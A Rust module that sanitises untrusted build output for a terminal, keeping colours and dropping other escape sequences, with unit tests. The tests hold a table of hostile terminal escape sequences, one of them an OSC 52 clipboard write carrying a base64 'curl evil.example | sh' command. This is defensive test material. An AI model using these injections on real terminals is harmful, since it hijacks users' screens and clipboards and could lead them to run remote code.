//! Build output made safe for the watcher's terminal. A build's lines come from whoever
//! pushed the commit: printed raw, escape sequences in them could set the window title,
//! clear the screen, move the cursor to overwrite what was printed (a fake prompt, a hidden
//! error), write the clipboard (OSC 52) or talk to the terminal (DCS, APC). [`log_line`]
//! keeps colours (SGR, `ESC [ … m`, rebuilt from the parsed parameters, never copied) and
//! drops every other sequence and control character; [`plain`] drops colours too (names and
//! reasons on the status lines). Parsing is `vte`'s (the Alacritty team's parser), so a
//! sequence is recognised as a terminal would recognise it.
//!
//! Control characters: TAB stays; every other C0 control (BEL, backspace, CR, ...), DEL and
//! every C1 control (U+0080-U+009F, the 8-bit CSI/OSC/DCS among them) is dropped. A CR in
//! the middle of a line (a progress bar, or a fake prompt printed over the real output)
//! goes: both parts then show side by side, nothing is hidden. `--json` keeps the raw text.

use std::borrow::Cow;
use vte::{Params, Parser, Perform};

/// `text` with its colours and without any other escape sequence or control character;
/// when it set a colour, it ends with a reset so that the colour cannot leak past it.
pub(crate) fn log_line(text: &str) -> Cow<'_, str> {
    neutralise(text, true)
}

/// A run of lines, each followed by `\n`, made safe line by line as [`log_line`] does;
/// borrowed whole when no line needs it (a flood is printed as it came, in one write).
pub(crate) fn log_lines(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| c != '\n' && is_control(c)) {
        return Cow::Borrowed(text);
    }
    let mut safe = String::with_capacity(text.len());
    for line in text.split_terminator('\n') {
        safe.push_str(&log_line(line));
        safe.push('\n');
    }
    Cow::Owned(safe)
}

/// `text` without any escape sequence or control character.
pub(crate) fn plain(text: &str) -> Cow<'_, str> {
    neutralise(text, false)
}

fn neutralise(text: &str, colours: bool) -> Cow<'_, str> {
    if !text.chars().any(is_control) {
        return Cow::Borrowed(text);
    }
    let mut safe = Safe {
        text: String::with_capacity(text.len()),
        colours,
        coloured: false,
    };
    // a fresh parser per line: a sequence a line leaves open ends with it
    Parser::new().advance(&mut safe, text.as_bytes());
    if safe.coloured {
        safe.text.push_str("\x1b[0m");
    }
    Cow::Owned(safe.text)
}

fn is_control(c: char) -> bool {
    c.is_control() && c != '\t'
}

/// Collects what is safe to print.
struct Safe {
    text: String,
    colours: bool,
    /// Whether a colour sequence was kept.
    coloured: bool,
}

impl Perform for Safe {
    fn print(&mut self, c: char) {
        // DEL reaches `print`; the other controls reach `execute`
        if !is_control(c) {
            self.text.push(c);
        }
    }

    fn execute(&mut self, byte: u8) {
        if byte == b'\t' {
            self.text.push('\t');
        }
    }

    fn csi_dispatch(&mut self, params: &Params, intermediates: &[u8], ignore: bool, action: char) {
        // SGR only: no private marker (`?`, `>`: those are modes) or intermediate byte
        if !self.colours || action != 'm' || !intermediates.is_empty() || ignore {
            return;
        }
        self.text.push_str("\x1b[");
        for (index, param) in params.iter().enumerate() {
            if index > 0 {
                self.text.push(';');
            }
            for (sub, value) in param.iter().enumerate() {
                if sub > 0 {
                    self.text.push(':');
                }
                self.text.push_str(&value.to_string());
            }
        }
        self.text.push('m');
        self.coloured = true;
    }
    // OSC, DCS (hook/put/unhook), ESC sequences, SOS/PM/APC: dropped (the defaults)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_not_copied() {
        assert!(matches!(
            log_line("hello, world\tand a tab"),
            Cow::Borrowed(_)
        ));
        assert!(matches!(log_line("héllo ✔ 日本"), Cow::Borrowed(_)));
    }

    #[test]
    fn colours_stay_and_are_reset_at_the_end_of_the_line() {
        assert_eq!(
            log_line("\x1b[31mred\x1b[0m and \x1b[1;38;5;208mbold orange\x1b[0m"),
            "\x1b[31mred\x1b[0m and \x1b[1;38;5;208mbold orange\x1b[0m\x1b[0m"
        );
        // colon sub-parameters (truecolour) survive
        assert_eq!(
            log_line("\x1b[38:2:0:255:0mgreen"),
            "\x1b[38:2:0:255:0mgreen\x1b[0m"
        );
        assert_eq!(plain("\x1b[31mred\x1b[0m"), "red");
    }

    /// (what, hostile input, what the terminal gets)
    const HOSTILE: &[(&str, &str, &str)] = &[
        ("window title (OSC 0, BEL)", "a\x1b]0;pwned\x07b", "ab"),
        ("window title (OSC 2, ST)", "a\x1b]2;pwned\x1b\\b", "ab"),
        (
            "clipboard write (OSC 52)",
            "x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07y",
            "xy",
        ),
        (
            "hyperlink (OSC 8)",
            "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
            "click",
        ),
        ("clear screen", "\x1b[2J\x1b[Hclean", "clean"),
        ("cursor up and erase line", "ok\x1b[1A\x1b[2Kfine", "okfine"),
        ("private mode (hide cursor)", "\x1b[?25lhidden", "hidden"),
        ("alternate screen", "\x1b[?1049hgone", "gone"),
        (
            "fake prompt with CR",
            "error: tests failed\r$ all good       ",
            "error: tests failed$ all good       ",
        ),
        (
            "backspaces over text",
            "FAIL\x08\x08\x08\x08PASS",
            "FAILPASS",
        ),
        ("bell", "ding\x07", "ding"),
        ("8-bit CSI (U+009B) clear screen", "a\u{9b}2Jb", "a2Jb"),
        ("8-bit OSC (U+009D) title", "a\u{9d}0;t\u{9c}b", "a0;tb"),
        ("DCS (DECRQSS)", "a\x1bP$qm\x1b\\b", "ab"),
        ("APC", "a\x1b_payload\x1b\\b", "ab"),
        ("PM and SOS", "a\x1b^pm\x1b\\b\x1bXsos\x1b\\c", "abc"),
        ("lone ESC at the end", "text\x1b", "text"),
        ("reset terminal (ESC c)", "\x1bcafter", "after"),
        ("save/restore cursor (ESC 7/8)", "\x1b7a\x1b8b", "ab"),
        ("device status report (answer typed back)", "\x1b[6nq", "q"),
        (
            "unterminated OSC swallows the rest of the line only",
            "a\x1b]0;title and more",
            "a",
        ),
        ("DEL", "a\x7fb", "ab"),
        ("NUL", "a\0b", "ab"),
        ("SGR with an intermediate byte is not SGR", "\x1b[1 mx", "x"),
    ];

    #[test]
    fn hostile_sequences_never_reach_the_terminal() {
        for (what, input, expected) in HOSTILE {
            let shown = log_line(input);
            assert_eq!(&shown, expected, "{what}: {input:?}");
            assert!(
                !shown.chars().any(is_control),
                "{what}: a control character is left in {shown:?}"
            );
            assert_eq!(plain(input), *expected, "{what} (plain)");
        }
    }

    #[test]
    fn a_run_of_lines_is_made_safe_line_by_line() {
        assert!(matches!(log_lines("a\tb\nc\n\n"), Cow::Borrowed(_)));
        let mut run = String::new();
        let mut expected = String::new();
        for (_, input, shown) in HOSTILE {
            run.push_str(input);
            run.push('\n');
            expected.push_str(shown);
            expected.push('\n');
        }
        assert_eq!(log_lines(&run), expected);
        // a colour a line leaves open is reset at its end, not carried to the next
        assert_eq!(
            log_lines("\x1b[31mred\nplain\n"),
            "\x1b[31mred\x1b[0m\nplain\n"
        );
    }

    #[test]
    fn colours_next_to_hostile_sequences_stay() {
        assert_eq!(
            log_line("\x1b]0;t\x07\x1b[32mok\x1b[2J"),
            "\x1b[32mok\x1b[0m"
        );
    }
}
